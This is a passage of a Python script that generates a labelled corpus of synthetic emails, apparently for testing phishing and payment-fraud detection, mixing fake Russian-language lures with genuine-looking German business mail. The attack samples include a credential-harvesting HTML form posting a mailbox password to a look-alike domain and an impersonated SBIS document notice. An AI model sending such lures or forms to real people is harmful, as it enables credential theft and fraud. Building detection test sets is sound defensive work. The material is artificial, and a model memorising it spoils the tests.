      ATT(pdf_doc(['#OOO "StroyKomplekt"', 'INN ' + ATK_SK_INN, '', 'Pismo ob izmenenii bankovskikh rekvizitov', '',
                   'R/s ' + ATK_SK_RS, 'AO "ALFA-BANK", BIK ' + ATK_SK_BIK, 'K/s ' + ATK_SK_KS, '', 'Generalnyy direktor'], 'Rekvizity'),
          'application/pdf', 'Pismo_smena_rekvizitov.pdf'),
  ], _s, 'std'))

# --- 39 ru: fake SRO (self-regulatory org) arrears with HTML attachment -----
_s = 'attack/39'
_d = D('11-25 10:12:33', MSK)
_att = '''<!DOCTYPE html><html lang="ru"><head><meta charset="windows-1251"><title>Просмотр документа</title>
<style>body{font-family:Arial,sans-serif;background:#eceff1;margin:0}
.w{max-width:380px;margin:70px auto;background:#fff;padding:28px;border-radius:8px;box-shadow:0 2px 10px rgba(0,0,0,.12)}
input{width:100%;padding:10px;margin:8px 0;border:1px solid #b0bec5;border-radius:4px;box-sizing:border-box}
button{width:100%;padding:11px;background:#fc3f1d;color:#fff;border:0;border-radius:4px;font-size:15px}</style></head>
<body><div class="w"><h3>Защищённый документ</h3>
<p style="font-size:13px;color:#555">Акт сверки и счёт на оплату (2 файла, 184 КБ). Для просмотра подтвердите адрес электронной почты получателя.</p>
<form action="https://docs-sro-view.ru/auth.php" method="post">
<input name="login" value="aleksey.sokolov@example.com"><input name="passwd" type="password" placeholder="Пароль от почты">
<button type="submit">Открыть документ</button></form></div></body></html>
'''
M(dir='attack', file='39-ru-sro-zadolzhennost-html-vlozhenie', lang='ru', charset='windows-1251 (QP) + HTML attachment',
  desc='Fake notice from a construction SRO (self-regulatory organisation, mandatory membership for Russian contractors) about unpaid dues and threatened exclusion; HTML "reconciliation act" asks for the mailbox password.',
  why='Trade-specific authority lure (exclusion from SRO stops all contract work), sender domain sro-stroiteli.ru is invented, compromised shared host; local HTML form posting the mail password to docs-sro-view.ru.',
  mailfrom='info@sro-stroiteli.ru', rcpt='aleksey.sokolov@example.com', date=_d,
  helo='vh412.timeweb.ru', rdns='vh412.timeweb.ru', ip='92.53.96.212', tls='TLSv1.2',
  cipher='ECDHE-RSA-AES256-GCM-SHA384 (256/256 bits)',
  frm=('Ассоциация СРО "Строители Столицы"', 'info@sro-stroiteli.ru'), to=ST('sokolov'),
  subject='Уведомление о задолженности по членским взносам (IV квартал 2026)',
  msgid='%s@sro-stroiteli.ru' % H(_s, 32), hcs='windows-1251',
  extra=[('X-Mailer', '1C-Bitrix (https://www.1c-bitrix.ru)')],
  body=MP('mixed', [
      T('''Уважаемый Алексей Викторович!

Ассоциация уведомляет, что по состоянию на 20.11.2026 за ООО «Экзампл Груп Рус» (ИНН %s) числится задолженность по уплате членских взносов за IV квартал 2026 года в размере 45 000,00 руб.

В соответствии с Уставом Ассоциации и ч. 2 ст. 55.7 Градостроительного кодекса РФ неоднократная неуплата членских взносов является основанием для рассмотрения вопроса об исключении из членов саморегулируемой организации, что влечёт невозможность выполнения работ по договорам строительного подряда.

Акт сверки взаиморасчётов и счёт на оплату направляем во вложении. Для просмотра документов используйте Ваш рабочий адрес электронной почты.

Просим погасить задолженность до 30.11.2026.

С уважением,
Отдел по работе с членами Ассоциации
Ассоциация СРО «Строители Столицы»
''' % EG_INN, cs='windows-1251'),
      ATT(_att.encode('windows-1251'), 'text/html', 'Акт_сверки_IV_кв_2026.html', fn_style='2047'),
  ], _s, 'std'))

# --- 40 ru: fake EDO (SBIS) document notification ---------------------------
_s = 'attack/40'
_d = D('11-30 12:20:14', MSK)
_TM_INN = ru_inn10('771894263')
_url = 'https://online.sbis-edo.ru/page/document?guid=%s-%s-%s' % (H(_s, 8), H(_s + '1', 4), H(_s + '2', 12))
_txt = '''Вам поступил документ, требующий подписи.

Отправитель: ООО "ТехноМонтаж", ИНН %s
Документ: Акт о приёмке выполненных работ (КС-2) № 14 от 27.11.2026, Справка о стоимости работ (КС-3) № 14
Сумма: 4 742 560,00 ₽
Срок подписания: 02.12.2026

Перейти к документу: %s

Чтобы отключить уведомления, измените настройки в личном кабинете.
''' % (_TM_INN, _url)
_html = '''<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="font-family:Segoe UI,Arial,sans-serif;font-size:14px;color:#313131;background:#f5f5f5;margin:0;padding:16px">
<div style="max-width:600px;margin:0 auto;background:#fff;padding:24px">
<div style="font-size:22px;color:#0055bb;font-weight:bold;margin-bottom:16px">СБИС</div>
<p>Вам поступил документ, требующий подписи.</p>
<table cellpadding="4" style="font-size:14px"><tr><td style="color:#888">Отправитель:</td><td>ООО "ТехноМонтаж", ИНН %s</td></tr>
<tr><td style="color:#888">Документ:</td><td>Акт о приёмке выполненных работ (КС-2) № 14 от 27.11.2026, Справка о стоимости работ (КС-3) № 14</td></tr>
<tr><td style="color:#888">Сумма:</td><td>4 742 560,00 ₽</td></tr><tr><td style="color:#888">Срок подписания:</td><td>02.12.2026</td></tr></table>
<p><a href="%s" style="background:#f88000;color:#fff;padding:10px 22px;text-decoration:none;display:inline-block;border-radius:3px">Перейти к документу</a></p>
<p style="font-size:11px;color:#999">Чтобы отключить уведомления, измените настройки в личном кабинете.</p></div></body></html>
''' % (_TM_INN, _url)
M(dir='attack', file='40-ru-sbis-edo-novyy-dokument', lang='ru', charset='UTF-8 (QP), multipart/alternative',
  desc='Fake SBIS (EDO provider) notification: subcontractor "ТехноМонтаж" sent KS-2/KS-3 acts (4,74 M RUB) for signature; link to online.sbis-edo.ru.',
  why='Brand impersonation of the dominant Russian e-document operator (genuine: sbis.ru / saby.ru); look-alike domain sbis-edo.ru on a Hetzner server; plausible construction paperwork (KS-2/KS-3) drives the accountant to a fake login.',
  mailfrom='noreply@sbis-edo.ru', rcpt='olga.smirnova@example.com', date=_d,
  helo='mx1.sbis-edo.ru', rdns='static.118.52.216.95.clients.your-server.de', ip='95.216.52.118', tls='TLSv1.3',
  frm=('СБИС', 'noreply@sbis-edo.ru'), to=ST('smirnova'),
  subject='Новый документ от ООО "ТехноМонтаж": Акт КС-2 № 14 от 27.11.2026',
  msgid='%s@sbis-edo.ru' % H(_s, 24), henc='B',
  body=MP('alternative', [T(_txt, cs='UTF-8'), T(_html, 'html', cs='UTF-8')], _s, 'bulk'))

# ===========================================================================
# BUSINESS (genuine) messages
# ===========================================================================
LIEF_USTID = de_ustid('14963288')
HANSEN_USTID = de_ustid('27740315')

# --- 01 de: supplier invoice --------------------------------------------------
_s = 'business/01'
_d = D('11-04 06:15:02')
_inf = m365_infra(_s, _d, 'sabine.hoffmann@example.com', 'FR2P281MB0441')
M(dir='business', file='01-de-lieferant-rechnung', lang='de', charset='ISO-8859-1 (QP) + PDF',
  desc='Lieferant GmbH sends invoice RE-2026-10482 (12.846,20 EUR) for the Mannheim site from its accounting mailbox.',
  why='Known supplier, genuine domain lieferant-gmbh.de via its Microsoft 365 tenant, the bank account is the one on file (%s), references a real purchase order; ordinary ERP dispatch mail.' % iban_fmt(LIEF_IBAN_OLD),
  infra=_inf, mailfrom='rechnungen@lieferant-gmbh.de', rcpt='sabine.hoffmann@example.com', date=_d,
  frm=('Lieferant GmbH - Buchhaltung', 'rechnungen@lieferant-gmbh.de'), to=ST('hoffmann'),
  subject='Rechnung RE-2026-10482 vom 03.11.2026 - Lieferant GmbH', hcs='ISO-8859-1',
  extra=[('X-Mailer', 'Sage 100 9.0 E-Mail-Versand'), ('Content-Language', 'de-DE')],
  body=MP('mixed', [
      T(f'''Sehr geehrte Damen und Herren,

anbei erhalten Sie unsere Rechnung RE-2026-10482 vom 03.11.2026 als PDF-Dokument.

Rechnungsbetrag:   12.846,20 EUR
Fällig am:         03.12.2026 (30 Tage netto), 2 % Skonto bei Zahlung bis 13.11.2026
Ihre Bestellung:   EK-2026-04417 / BV Mannheim Quartier N4

Bitte überweisen Sie den Betrag unter Angabe der Rechnungsnummer auf unser Konto bei der Sparkasse Vorderpfalz:
IBAN {iban_fmt(LIEF_IBAN_OLD)} - BIC MALADE51LUH

Diese E-Mail wurde automatisch erstellt. Bei Rückfragen zur Rechnung wenden Sie sich bitte an rechnungen@lieferant-gmbh.de oder telefonisch an 0621 5290-300.

Mit freundlichen Grüßen
Lieferant GmbH
Buchhaltung

Lieferant GmbH · Industriestraße 14 · 67063 Ludwigshafen am Rhein
Geschäftsführung: Petra Hagen, Dr. Ulrich Maier · Amtsgericht Ludwigshafen HRB 61234 · USt-IdNr. {LIEF_USTID}
''', cs='ISO-8859-1'),
      ATT(pdf_doc(['#Lieferant GmbH', 'Industriestrasse 14, 67063 Ludwigshafen am Rhein', '',
                   'Example Group SE, Kreditorenbuchhaltung', '', '#Rechnung RE-2026-10482', 'Datum: 03.11.2026   Ihre Bestellung: EK-2026-04417',
                   'Lieferadresse: BV Mannheim Quartier N4', '',
                   'Pos 1  Gipskartonplatten GKB 12,5 mm  1.840 m2     4.968,00', 'Pos 2  CW-Profile 75 mm  3.200 lfm     2.944,00',
                   'Pos 3  Daemmung Mineralwolle 60 mm  1.200 m2     2.883,00', '',
                   'Netto 10.795,13 EUR   USt 19 % 2.051,07 EUR   Brutto 12.846,20 EUR', '',
                   'Zahlbar bis 03.12.2026. Sparkasse Vorderpfalz IBAN ' + iban_fmt(LIEF_IBAN_OLD), 'USt-IdNr. ' + LIEF_USTID],
                  'RE-2026-10482', producer='Sage 100 PDF'),
          'application/pdf', 'RE-2026-10482.pdf'),
  ], _s, 'std'))

# --- 02 de: GENUINE bank-detail change from the same supplier ----------------
_s = 'business/02'
_d = D('11-26 11:32:48')
M(dir='business', file='02-de-lieferant-bankverbindung-echt', lang='de', charset='ISO-8859-15 (QP) + PDF',
  desc='Genuine bank-detail change: Stefan Maier (Lieferant GmbH) announces the move to Deutsche Bank from 01.01.2027, invites phone verification via the known number, original letter by post.',
  why='Real sender on the genuine domain/tenant, long lead time, old account stays valid for all 2026 invoices, no pressure, explicitly asks for call-back verification; the hard twin of attack/02.',
  infra=m365_infra(_s, _d, 'sabine.hoffmann@example.com', 'FR2P281MB0219'),
  mailfrom='s.maier@lieferant-gmbh.de', rcpt='sabine.hoffmann@example.com', date=_d,
  frm=('Stefan Maier', 's.maier@lieferant-gmbh.de'), to=ST('hoffmann'), cc=ST('kraemer'),
  subject='Neue Bankverbindung der Lieferant GmbH ab 01.01.2027', hcs='ISO-8859-15',
  extra=[('Thread-Topic', 'Neue Bankverbindung der Lieferant GmbH ab 01.01.2027'), ('Thread-Index', thread_index(_s)),
         ('Content-Language', 'de-DE'), ('X-MS-Has-Attach', 'yes')],
  body=MP('mixed', [
      T(f'''Sehr geehrte Frau Hoffmann,

wie im Jahresgespräch mit Frau Krämer bereits angekündigt, wechseln wir zum Jahresbeginn unsere Hausbank. Ab dem 01.01.2027 bitten wir Sie, Zahlungen an die Lieferant GmbH auf folgendes Konto zu leisten:

Deutsche Bank AG, Filiale Ludwigshafen
IBAN: {iban_fmt(LIEF_IBAN_NEW)}
BIC:  DEUTDESM545

Bis zum 31.12.2026 bleibt unser Konto bei der Sparkasse Vorderpfalz unverändert gültig; alle Rechnungen aus 2026 können also wie gewohnt dorthin bezahlt werden. Ab Januar ist die neue Bankverbindung auch auf unseren Rechnungen angedruckt.

Das unterschriebene Schreiben unserer Geschäftsführung liegt bei, das Original erhalten Sie zusätzlich per Post. Da Sie Änderungen von Bankdaten telefonisch verifizieren, rufen Sie gern unsere Buchhaltung (Frau Hagen) unter der Ihnen bekannten Rufnummer 0621 5290-300 an.

Mit freundlichen Grüßen

Stefan Maier
Key Account Management

Lieferant GmbH
Industriestraße 14 · 67063 Ludwigshafen am Rhein
Tel. +49 621 5290-214
www.lieferant-gmbh.de
''', cs='ISO-8859-15'),
      ATT(pdf_doc(['#Lieferant GmbH', 'Industriestrasse 14, 67063 Ludwigshafen am Rhein', '', 'Example Group SE', 'Kreditorenbuchhaltung', '',
                   'Ludwigshafen, 25.11.2026', '', '#Aenderung unserer Bankverbindung zum 01.01.2027', '',
                   'Ab dem 01.01.2027: Deutsche Bank AG, IBAN ' + iban_fmt(LIEF_IBAN_NEW) + ', BIC DEUTDESM545',
                   'Bis 31.12.2026 gilt weiterhin: Sparkasse Vorderpfalz, IBAN ' + iban_fmt(LIEF_IBAN_OLD), '',
                   'Zur Verifizierung: Buchhaltung, Frau Hagen, Tel. 0621 5290-300', '', 'Petra Hagen, Geschaeftsfuehrerin'],
                  'Bankverbindung 2027'),
          'application/pdf', 'Schreiben_Bankverbindung_2027.pdf'),
  ], _s, 'outlook'))

# --- 03 de: internal - CEO's urgent (genuine) payment approval ---------------
_s = 'business/03'
_d = D('12-01 07:52:16')
_txt = '''Katrin, Sabine,

bitte gebt die 7. Abschlagsrechnung von Elektro Hansen (AR-2026-118, 86.420,55 € brutto) heute noch zur Zahlung frei. Lukas hat die Leistung geprüft und die Rechnung im Workflow bereits sachlich freigegeben, der Einbehalt für die fehlenden Revisionsunterlagen ist abgezogen.

Hintergrund: Hansen hat heute früh angekündigt, die Arbeiten in Mannheim ab Donnerstag einzustellen, wenn bis Mittwoch kein Geld da ist. Das können wir uns vor der Abnahme am 18.12. nicht leisten.

Bitte ganz normal über den Zahlungslauf mit den hinterlegten Stammdaten, keine Sonderüberweisung. Bei Rückfragen bin ich ab 10 Uhr im Büro, vorher mobil.

Danke
Markus

Dr. Markus Brenner
Vorsitzender des Vorstands
Example Group SE

-----Ursprüngliche Nachricht-----
Von: Lukas Berger <lukas.berger@example.com>
Gesendet: Montag, 30. November 2026 18:47
An: Markus Brenner <markus.brenner@example.com>
Betreff: Abschlagsrechnung Nr. 7 Elektro Hansen

Hallo Markus,

Herr Hansen hat mich heute auf der Baustelle angesprochen, die 7. AR ist seit 12 Tagen fällig. Ich habe sie heute sachlich freigegeben (Kürzung 4.850 € wegen fehlender Revisionsunterlagen). Er droht mit Arbeitseinstellung ab Donnerstag. Kannst Du das mit der Buchhaltung klären?

Gruß
Lukas
'''
_inf = INTERNAL_RELAY(_d, _s)
M(dir='business', file='03-de-intern-ceo-dringende-freigabe', lang='de', charset='UTF-8 (QP), multipart/alternative',
  desc='Internal: the real CEO asks CFO and AP to release an overdue progress invoice of the electrical subcontractor today to avoid a work stoppage.',
  why='Internal mail through mail-int01 (Exchange), real colleagues, references the normal approval workflow and master data ("keine Sonderüberweisung"), quoted thread from the site manager; urgent but procedurally sound.',
  infra=_inf, mailfrom='markus.brenner@example.com', rcpt='katrin.vogel@example.com', date=_d,
  frm=('Markus Brenner', 'markus.brenner@example.com'), to=ST('vogel', 'hoffmann'), cc=ST('berger'),
  subject='AW: Abschlagsrechnung Nr. 7 Elektro Hansen - bitte heute freigeben',
  msgid=exch_mid(_s, 'example.com'),
  extra=[('Thread-Topic', 'Abschlagsrechnung Nr. 7 Elektro Hansen'), ('Thread-Index', thread_index(_s)),
         ('In-Reply-To', '<%s>' % exch_mid(_s + 'prev', 'example.com')), ('References', '<%s>' % exch_mid(_s + 'prev', 'example.com')),
         ('Importance', 'high'), ('X-Priority', '1'), ('Content-Language', 'de-DE'), ('X-MS-Has-Attach', ''),
         ('X-MS-TNEF-Correlator', ''), ('x-originating-ip', '[10.20.14.37]')],
  body=MP('alternative', [T(_txt, cs='utf-8'), T(outlook_html(_txt, 'utf-8', 'DE'), 'html', cs='utf-8')], _s, 'outlook'))

# --- 04 de: colleague writes from private web.de address (sick note) ---------
_s = 'business/04'
_d = D('11-23 06:41:09')
M(dir='business', file='04-de-kollege-private-adresse-krankmeldung', lang='de', charset='UTF-8 (QP)',
  desc='The real site manager Lukas Berger reports sick from his private web.de address because his work phone and laptop are on site.',
  why='Colleague writing from a private address with a plausible reason, no request for money, data or credentials, mentions internal facts (Polier, concreting date) and the electronic sick note (eAU) procedure.',
  mailfrom='lukas.berger@web.de', rcpt='claudia.neumann@example.com', date=_d,
  helo='mout.web.de', rdns='mout.web.de', ip='217.72.192.78',
  received=['from [10.146.33.210] ([46.114.37.188]) by smtp.web.de (mrweb106\n\t[213.165.67.124]) with ESMTPSA (Nemesis) id 1M4a3T-1vQy8o0ZxF-00Gh2k; %s' % fmt(plus(_d, 1))],
  frm=('Lukas Berger', 'lukas.berger@web.de'), to=ST('neumann'), cc=ST('roth'),
  subject='Krankmeldung heute – Lukas Berger',
  msgid='%s-%s-%s-%s-%s@web.de' % (H(_s, 8, UPHEX), H(_s + '1', 4, UPHEX), H(_s + '2', 4, UPHEX), H(_s + '3', 4, UPHEX), H(_s + '4', 12, UPHEX)),
  order=['From', 'Content-Type', 'Subject', 'Date', 'To', 'Cc', 'Message-ID'],
  extra=[('X-Mailer', 'WEB.DE Mail Android 7.92')],
  body=T('''Guten Morgen Frau Neumann,

ich habe seit gestern Abend hohes Fieber und war eben beim ärztlichen Bereitschaftsdienst. Ich bin voraussichtlich bis einschließlich Mittwoch krankgeschrieben, die AU hat die Praxis elektronisch an die Krankenkasse übermittelt.

Ich schreibe von meiner privaten Adresse, weil mein Diensthandy im Baucontainer liegt und ich den Laptop am Wochenende nicht mitgenommen habe.

Herr Roth (cc) weiß Bescheid, die Betonage der Decke über dem 4. OG am Dienstag übernimmt Herr Demir als Polier. Die Zugangscodes für den Container hat er.

Viele Grüße
Lukas Berger
''', cs='UTF-8', quote_cs=False, ctparams='; format=flowed'))

# --- 05 de: subscribed trade newsletter (CleverReach) -------------------------
_s = 'business/05'
_d = D('11-20 07:00:04')
_trk = lambda n: 'https://t.crsend.com/c/%s/%s' % (H(_s + 'c', 10, B62), H(_s + str(n), 16, B62))
_items = [
    ('Baugenehmigungen: Wohnungsbau stabilisiert sich auf niedrigem Niveau',
     'Im September wurden bundesweit 7,8 % mehr Wohnungen genehmigt als im Vorjahresmonat. Der Wirtschaftshochbau bleibt dagegen schwach.'),
    ('Gebäudetyp E: Was das neue Gesetz für Generalunternehmer bedeutet',
     'Abweichungen von anerkannten Regeln der Technik sollen vertraglich leichter möglich werden. Wir fassen die Haftungsfragen für GU-Verträge zusammen.'),
    ('Vergaberecht: EU-Schwellenwerte ab 01.01.2026 - was sich 2027 ändert',
     'Für Bauaufträge liegt der Schwellenwert bei 5.404.000 Euro. Die Kommission hat die Werte für 2028/2029 bereits angekündigt.'),
    ('Tarifrunde Bauhauptgewerbe: Schlichtung für Frühjahr 2027 vereinbart',
     'IG BAU und Arbeitgeberverbände haben sich auf einen Zeitplan verständigt.'),
]
_txt = 'Bauwirtschaft aktuell - Newsletter 47/2026\n\nGuten Morgen,\n\n' + '\n\n'.join(
    '%s\n%s\nWeiterlesen: %s' % (t, b, _trk(i)) for i, (t, b) in enumerate(_items)) + '''

TERMINE
03.12.2026 Webinar: Nachtragsmanagement nach VOB/B 2026
21.-24.04.2027 bauma-Nachlese / Forum Digitales Bauen, München

Sie erhalten diesen Newsletter, weil Sie ihn unter bauwirtschaft-aktuell.de mit andreas.roth@example.com abonniert haben.
Abmelden: https://bauwirtschaft-aktuell.de/newsletter/abmelden?e=%s
Impressum: Fachverlag Bauwirtschaft GmbH, Rotebühlstraße 81, 70178 Stuttgart, HRB 731842 AG Stuttgart
''' % H(_s + 'u', 24, B62)
_html = ('<!DOCTYPE html><html lang="de"><head><meta charset="utf-8"><title>Newsletter 47/2026</title></head>'
         '<body style="margin:0;background:#eeeeee"><table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">'
         '<table width="620" cellpadding="0" cellspacing="0" style="background:#ffffff;font-family:Georgia,serif;color:#222">'
         '<tr><td style="background:#f5b400;padding:18px 24px;font-family:Arial;font-weight:bold;font-size:22px">Bauwirtschaft aktuell'
         '<span style="font-weight:normal;font-size:13px"> &middot; Newsletter 47/2026</span></td></tr>'
         + ''.join('<tr><td style="padding:18px 24px;border-bottom:1px solid #ddd"><h2 style="font-size:18px;margin:0 0 6px 0">%s</h2>'
                   '<p style="margin:0 0 8px 0;font-size:14px;line-height:20px">%s</p><a href="%s" style="color:#b36b00;font-family:Arial;font-size:13px">Weiterlesen &raquo;</a></td></tr>'
                   % (_html_esc(t), _html_esc(b), _trk(i)) for i, (t, b) in enumerate(_items))
         + '<tr><td style="padding:16px 24px;font-family:Arial;font-size:11px;color:#777">Sie erhalten diesen Newsletter, weil Sie ihn mit andreas.roth@example.com abonniert haben. '
           '<a href="https://bauwirtschaft-aktuell.de/newsletter/abmelden?e=%s">Abmelden</a><br>Fachverlag Bauwirtschaft GmbH &middot; Rotebühlstraße 81 &middot; 70178 Stuttgart</td></tr>'
           '</table></td></tr></table><img src="https://t.crsend.com/o/%s" width="1" height="1" alt=""></body></html>\n'
         % (H(_s + 'u', 24, B62), H(_s + 'o', 20, B62)))
M(dir='business', file='05-de-newsletter-bauwirtschaft', lang='de', charset='UTF-8 (QP), multipart/alternative',
  desc='Subscribed weekly trade newsletter "Bauwirtschaft aktuell" (building permits, Gebäudetyp E, procurement thresholds) sent via CleverReach.',
  why='Opt-in newsletter from an ESP with List-Unsubscribe/List-Unsubscribe-Post, tracking redirects and pixel like any real newsletter; no credential or payment request.',
  mailfrom='bounce-%s@crsend.com' % H(_s + 'b', 20), rcpt='andreas.roth@example.com', date=_d,
  helo='mta-out-18.crsend.com', rdns='mta-out-18.crsend.com', ip='195.30.85.18', tls='TLSv1.3',
  frm=('Bauwirtschaft aktuell', 'newsletter@bauwirtschaft-aktuell.de'), to=ST('roth'),
  subject='Wohnungsbau stabilisiert sich, Gebäudetyp E, neue Schwellenwerte | Newsletter 47/2026',
  msgid='%s@crsend.com' % H(_s, 32),
  extra=[('List-Unsubscribe', '<https://bauwirtschaft-aktuell.de/newsletter/abmelden?e=%s>, <mailto:unsubscribe-%s@crsend.com>' % (H(_s + 'u', 24, B62), H(_s + 'u2', 16))),
         ('List-Unsubscribe-Post', 'List-Unsubscribe=One-Click'), ('List-Id', '<4417203.bauwirtschaft-aktuell.crsend.com>'),
         ('Precedence', 'bulk'), ('X-Mailer', 'CleverReach Mailer'), ('X-CSA-Complaints', 'csa-complaints@eco.de')],
  body=MP('alternative', [T(_txt, cs='UTF-8'), T(_html, 'html', cs='UTF-8')], _s, 'bulk'))

# --- 06 de: genuine SOKA-BAU portal notification ------------------------------
_s = 'business/06'
_d = D('11-05 14:02:55')
M(dir='business', file='06-de-soka-bau-postfach-echt', lang='de', charset='ISO-8859-1 (QP)',
  desc='Genuine SOKA-BAU notice that a new account statement is waiting in the employer portal; deliberately contains no link and no attachment.',
  why='Authentic sender domain soka-bau.de from the institution\'s own mail host, no link/attachment, no amount, tells the user to log in "wie gewohnt"; the hard twin of attack/05.',
  mailfrom='noreply@soka-bau.de', rcpt='claudia.neumann@example.com', date=_d,
  helo='mx-out01.soka-bau.de', rdns='mx-out01.soka-bau.de', ip='62.157.140.37', tls='TLSv1.2',
  cipher='ECDHE-RSA-AES256-GCM-SHA384 (256/256 bits)',
  frm=('SOKA-BAU', 'noreply@soka-bau.de'), to=ST('neumann'),
  subject='Neue Nachricht in Ihrem Postfach bei SOKA-BAU',
  msgid='%s.JavaMail.portal@soka-bau.de' % H(_s, 16), hcs='ISO-8859-1',
  body=T('''Sehr geehrte Damen und Herren,

in Ihrem Postfach im Arbeitgeberportal von SOKA-BAU liegt eine neue Nachricht für Sie bereit.

Betriebskonto:  3046 1187
Betreff:        Kontoauszug Beiträge 10/2026

Bitte melden Sie sich wie gewohnt über unsere Internetseite im Arbeitgeberportal an, um die Nachricht zu lesen. Aus Sicherheitsgründen enthält diese E-Mail weder Links noch Anhänge.

Mit freundlichen Grüßen

SOKA-BAU
Urlaubs- und Lohnausgleichskasse der Bauwirtschaft
Zusatzversorgungskasse des Baugewerbes AG

Diese E-Mail wurde automatisch erzeugt. Bitte antworten Sie nicht auf diese Nachricht.
''', cs='ISO-8859-1'))

# --- 07 de: customer complaint (Mängelrüge) ---------------------------------
_s = 'business/07'
_d = D('11-24 16:18:37')
_txt = '''Sehr geehrter Herr Roth,

bei der gemeinsamen Begehung am 20.11.2026 wurden im Bauabschnitt 2 erneut die bereits im Oktober gerügten Mängel festgestellt, insbesondere:

1. Feuchtigkeitsschäden in der Tiefgarage (Achsen C–E / 4–7) infolge undichter Sollrissfugen,
2. fehlende bzw. nicht fachgerecht ausgeführte Brandschutzabschottungen in den Schächten 2.03 bis 2.07,
3. Abweichungen der Fassadenelemente Nordseite von der freigegebenen Bemusterung.

Die Mängel sind im beigefügten Protokoll mit Fotos dokumentiert. Wir fordern Sie hiermit gemäß § 4 Abs. 7 VOB/B auf, die Mängel bis spätestens 11.12.2026 vollständig zu beseitigen und uns die Beseitigung schriftlich anzuzeigen.

Nach fruchtlosem Fristablauf behalten wir uns vor, Ihnen den Auftrag insoweit zu entziehen, die Mängel im Wege der Ersatzvornahme auf Ihre Kosten beseitigen zu lassen und den Einbehalt aus der 11. Abschlagsrechnung entsprechend zu erhöhen. Ich sage Ihnen offen, dass unsere Geduld nach drei Terminverschiebungen erschöpft ist – der Übergabetermin an unsere Mieter steht.

Ich bitte um Bestätigung des Eingangs und um einen verbindlichen Terminplan bis Freitag.

Mit freundlichen Grüßen

Dr. Henrik Lange
Leiter Projektentwicklung
Rheinpark Immobilien GmbH
Rheinauhafen 7 · 50678 Köln
Tel. +49 221 912 477-20
'''
M(dir='business', file='07-de-kunde-maengelruege-fristsetzung', lang='de', charset='UTF-8 (QP) + PDF (RFC 2231 filename)',
  desc='Customer complaint: Rheinpark Immobilien formally notifies defects (underground car park leaks, fire stopping, facade) under § 4 Abs. 7 VOB/B with a deadline and threatens substitute performance.',
  why='Known client on its own domain and tenant, angry and deadline-driven but no payment redirection, no link; legal wording is typical for German construction disputes; must reach sales and the CEO.',
  infra=m365_infra(_s, _d, 'andreas.roth@example.com', 'BE1P281MB2674'),
  mailfrom='h.lange@rheinpark-immobilien.de', rcpt='andreas.roth@example.com', date=_d,
  frm=('Dr. Henrik Lange', 'h.lange@rheinpark-immobilien.de'), to=ST('roth'), cc=ST('brenner'),
  subject='Mängelrüge BA 2 Rheinpark-Quartier – Fristsetzung 11.12.2026',
  extra=[('Thread-Topic', 'Mängelrüge BA 2 Rheinpark-Quartier – Fristsetzung 11.12.2026'), ('Thread-Index', thread_index(_s)),
         ('Importance', 'high'), ('Content-Language', 'de-DE'), ('X-MS-Has-Attach', 'yes')],
  body=MP('mixed', [
      MP('alternative', [T(_txt, cs='utf-8'), T(outlook_html(_txt, 'utf-8', 'DE'), 'html', cs='utf-8')], _s + 'a', 'outlook'),
      ATT(pdf_doc(['#Rheinpark Immobilien GmbH - Protokoll Begehung BA 2', 'Datum: 20.11.2026, Teilnehmer: Dr. Lange, Herr Roth, Frau Bauer (Architektin)', '',
                   'M-01  Tiefgarage Achsen C-E/4-7: Feuchtigkeit an Sollrissfugen, Ausbluehungen', 'M-02  Schaechte 2.03-2.07: Brandschutzabschottungen fehlen',
                   'M-03  Fassade Nord: Elemente weichen von Bemusterung ab (Farbton, Fugenbild)', '',
                   'Frist zur Maengelbeseitigung: 11.12.2026 (Paragraph 4 Abs. 7 VOB/B)', '', 'Fotodokumentation: Anlage 1 (18 Fotos)'],
                  'Begehungsprotokoll BA 2'),
          'application/pdf', 'Mängelanzeige_BA2_Rheinpark_2026-11-24.pdf'),
  ], _s, 'outlook'))

# --- 08 de: subcontractor payment reminder ----------------------------------
_s = 'business/08'
_d = D('11-18 10:44:20')
M(dir='business', file='08-de-nachunternehmer-zahlungserinnerung', lang='de', charset='ISO-8859-15 (8bit) + PDF',
  desc='Elektro Hansen GmbH sends a second payment reminder for a time-and-material invoice (4.318,70 EUR) with its usual bank account.',
  why='Known subcontractor, genuine domain on its usual hosting (IONOS), same bank account as on file (%s), polite dunning without links; reminders and dunning notices are normal business.' % iban_fmt(HANSEN_IBAN),
  mailfrom='buchhaltung@elektro-hansen.de', rcpt='jonas.keller@example.com', date=_d,
  helo='mout.kundenserver.de', rdns='mout.kundenserver.de', ip='212.227.126.187',
  received=['from DESKTOP-HANSEN03 ([91.19.204.51]) by mrelayeu.kundenserver.de\n\t(mreue108 [213.165.67.113]) with ESMTPSA (Nemesis) id 1MbzGv-1vB7aZ3PxT-00dX9q; %s' % fmt(plus(_d, 1))],
  frm=('Elektro Hansen GmbH - Buchhaltung', 'buchhaltung@elektro-hansen.de'), to=ST('keller'),
  subject='2. Zahlungserinnerung Rechnung 2026-0871 (BV Frankfurt-Niederrad)', hcs='ISO-8859-15',
  msgid='000501dc5783$%s$%s@elektro-hansen.de' % (H(_s, 8), H(_s + 'b', 8)),
  extra=[('X-Mailer', 'Microsoft Outlook 16.0'), ('Thread-Index', thread_index(_s)), ('Content-Language', 'de')],
  body=MP('mixed', [
      T(f'''Sehr geehrter Herr Keller,

bei der Durchsicht unserer Konten haben wir festgestellt, dass die folgende Rechnung trotz unserer Erinnerung vom 28.10.2026 noch offen ist:

Rechnung 2026-0871 vom 15.09.2026, Regiearbeiten BV Frankfurt-Niederrad (Stundenzettel KW 35/36)
Betrag: 4.318,70 €, fällig seit 15.10.2026

Sicher handelt es sich um ein Versehen. Falls die Regieberichte bei Ihnen nicht vorliegen, schicken wir sie gern noch einmal; ansonsten bitten wir um Ausgleich bis zum 30.11.2026 auf unser bekanntes Konto:

VR Bank Rhein-Neckar eG
IBAN {iban_fmt(HANSEN_IBAN)}
BIC GENODE61MA2

Sollte sich Ihre Zahlung mit diesem Schreiben überschnitten haben, betrachten Sie es bitte als gegenstandslos.

Mit freundlichen Grüßen

Birgit Hansen
Buchhaltung

Elektro Hansen GmbH · Neckarauer Straße 112 · 68199 Mannheim
Tel. 0621 843 27-0 · USt-IdNr. {HANSEN_USTID}
''', cs='ISO-8859-15', cte='8bit'),
      ATT(pdf_doc(['#Elektro Hansen GmbH', 'Neckarauer Strasse 112, 68199 Mannheim', '', '#2. Zahlungserinnerung', '',
                   'Rechnung 2026-0871 vom 15.09.2026   4.318,70 EUR   faellig 15.10.2026', '',
